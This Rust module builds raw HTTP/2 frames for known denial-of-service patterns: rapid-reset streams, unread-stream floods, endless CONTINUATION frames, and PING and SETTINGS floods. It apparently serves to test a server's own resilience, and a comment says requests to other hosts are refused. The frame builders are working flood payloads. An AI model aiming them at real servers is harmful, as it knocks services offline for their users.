//! HTTP/2 by the byte (RFC 9113): what no client would send.

use std::net::SocketAddr;

/// The end of the headers, and of the stream.
const END_HEADERS: u8 = 4;
const END_STREAM: u8 = 1;
/// How many streams or frames one piece of a flood has.
const MANY: u32 = 200;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let mut bytes = length[1..].to_vec();
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// The preface, and settings in which each answer may have so many bytes.
pub fn start(window: u32) -> Vec<u8> {
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    let [a, b, c, d] = window.to_be_bytes();
    bytes.extend(frame(4, 0, 0, &[0, 4, a, b, c, d]));
    bytes
}

/// GET, http, the path and the authority as literals without an index (RFC 7541, section 6.2.2). Another authority than
/// the server's own would be refused before any call.
fn headers(addr: SocketAddr, stream: u32, flags: u8) -> Vec<u8> {
    let path = b"/api/v1/regions";
    let mut block = vec![0x82, 0x86, 0x04, u8::try_from(path.len()).unwrap()];
    block.extend(path);
    let authority = addr.to_string();
    block.extend([0x01, u8::try_from(authority.len()).unwrap()]);
    block.extend(authority.as_bytes());
    frame(1, flags, stream, &block)
}

/// The ids of one round's streams: none is used again.
fn streams(round: u32) -> impl Iterator<Item = u32> {
    (round * MANY..(round + 1) * MANY).map(|n| 2 * n + 1)
}

/// Requests, each taken back at once.
pub fn rapid_resets(addr: SocketAddr, round: u32) -> Vec<u8> {
    let one = |stream| {
        let asked = headers(addr, stream, END_HEADERS | END_STREAM);
        [asked, frame(3, 0, stream, &[0, 0, 0, 8])].concat()
    };
    streams(round).flat_map(one).collect()
}

/// Requests whose answers are never taken.
pub fn many_streams(addr: SocketAddr, round: u32) -> Vec<u8> {
    streams(round).flat_map(|stream| headers(addr, stream, END_HEADERS | END_STREAM)).collect()
}

/// A request whose headers don't end.
pub fn headers_begun(addr: SocketAddr) -> Vec<u8> {
    [start(65_535), headers(addr, 1, END_STREAM)].concat()
}

pub fn continuations() -> Vec<u8> {
    frame(9, 0, 1, &[]).repeat(MANY as usize)
}

/// Each wants an answer.
pub fn pings() -> Vec<u8> {
    frame(6, 0, 0, &[7; 8]).repeat(MANY as usize)
}

pub fn settings() -> Vec<u8> {
    frame(4, 0, 0, &[]).repeat(MANY as usize)
}
